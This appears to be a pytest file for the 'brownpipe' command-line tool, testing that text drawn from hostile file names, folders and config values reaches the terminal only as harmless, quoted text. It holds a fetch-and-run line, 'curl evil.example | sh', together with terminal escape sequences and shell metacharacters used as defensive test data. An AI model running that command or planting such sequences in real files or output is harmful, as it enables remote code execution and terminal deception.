"""Text that others have chosen, in files, names and arguments: on the screen it is text and no more."""

import ast
import json
import re
from pathlib import Path

import pytest

from brownpipe.cli import main
from brownpipe.provenance import PACKAGE
from brownpipe.quoting import printable, shell_path

SCENE = Path(__file__).parent.parent / "config" / "scenes" / "harrison2020.yaml"

COMMAND = "curl evil.example | sh"
BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]  # all that may begin a line
CODES = ["\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\b\b\b\b", "\x7f", "\u202e", "\u2066", "\u200b", "\ufeff"]
ODD = ["'", '"', "`", "$(id)", ";", "|", "\\", "{x}", "%s", " ", "-rf", "$\\frac", "é", "\U0001f600"]

pytestmark = pytest.mark.usefixtures("elsewhere")


def hostile(random, surrogates=True):
    """A text with what a terminal or a shell would obey."""
    pieces = [random.choice(BREAKS) + COMMAND, random.choice(CODES), *random.choices(BREAKS + CODES + ODD, k=4)]
    pieces += ["\udcff"] if surrogates and random.random() < 0.3 else []
    random.shuffle(pieces)
    return "".join(pieces)


def obeyed(printed):
    """What a terminal would find in a text to obey: control characters but line feed, and lines that are a command."""
    bad = [char for char in printed if char != "\n" and printable(char) != char]
    return bad + [line for line in printed.splitlines() if line.lstrip().startswith(COMMAND)]


def run(capsys, *argv):
    """Run a verb; return its status. What it prints is harmless."""
    try:
        status = main([str(word) for word in argv])
    except SystemExit as left:
        status = left.code
    out, err = capsys.readouterr()
    assert obeyed(out) == [], (argv, out)
    assert obeyed(err) == [], (argv, err)
    assert len(err) < 3000, (argv, err)
    return status


# -- words ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["", "scene.yaml: must be > 0, not -1", "Zürich ± 3 µm", "C:\\new\\table", "π ≈ 3"])
def test_ordinary_text_is_shown_as_it_is(text):
    assert printable(text) == text


def test_no_character_that_a_terminal_obeys_is_shown():
    everything = "".join(map(chr, [*range(0x10000), 0x1D173, 0x1F600, 0xE0001, 0xE0100, 0x10FFFF]))
    shown = printable(everything)
    assert shown.isprintable() and printable(shown) == shown
    assert not set(shown) & set("".join(BREAKS + CODES[5:]) + "\x1b\x9b\x07\b\x00\xa0\xad\ud800\u061c\u200e")


@pytest.mark.parametrize(("path", "word"), [("-rf", "./-rf"), ("a b", "'a b'"), ("a/b.h5", "a/b.h5")])
def test_a_path_is_no_option(path, word):
    assert shell_path(path) == word


# -- names and arguments --------------------------------------------------------------------------------------------


def test_what_a_scene_or_study_says_is_text(faults, capsys):
    """Keys and values, as they are and in quotes, in a file with a hostile name or folder."""
    scene = SCENE.read_text()
    study = "scenes: [scene.yaml]\nparticles: [10]\nseeds: 4\nengines: [exact]\nfigures: [msd]\nrecord: tracer\n"
    for _ in faults.tries(40):
        folder = Path(hostile(faults.random).replace("/", "")[:60])
        folder.mkdir(exist_ok=True)
        text = faults.random.choice([scene, study])
        words = [match for match in re.finditer(r"[\w.]+", text) if text[match.start() - 1] != "#"]
        place = faults.random.choice(words)
        new = hostile(faults.random, surrogates=False)
        new = faults.random.choice([new, json.dumps(new), json.dumps(place[0] + new), new.replace("\n", "")])
        path = folder / f"{faults.random.choice(['file', hostile(faults.random).replace('/', '')[:30]])}.yaml"
        (folder / "scene.yaml").write_text(scene)
        path.write_text(text[: place.start()] + new + text[place.end() :], encoding="utf-8", newline="")
        run(capsys, "check", path if faults.random.random() < 0.9 else Path.cwd() / path)
        if text is study:
            run(capsys, "tradeoff", path)


# -- the source -----------------------------------------------------------------------------------------------------

PRINTING = {  # functions that print: fixed text, or what `printable` or `in_lines` return
    "progress.py": {"_overwrite", "relayed", "say"},  # another process of brownpipe
    "verbs/output.py": {"say", "show"},
}


@pytest.mark.slow
def test_few_functions_print():
    """So that no text reaches the screen by another way."""
    found = {}
    for file in PACKAGE.rglob("*.py"):
        for function in ast.walk(ast.parse(file.read_text())):
            calls = ast.walk(function) if isinstance(function, ast.FunctionDef) else ()
            if any(isinstance(call, ast.Call) and getattr(call.func, "id", "") == "print" for call in calls):
                found.setdefault(file.relative_to(PACKAGE).as_posix(), set()).add(function.name)
    assert found == PRINTING
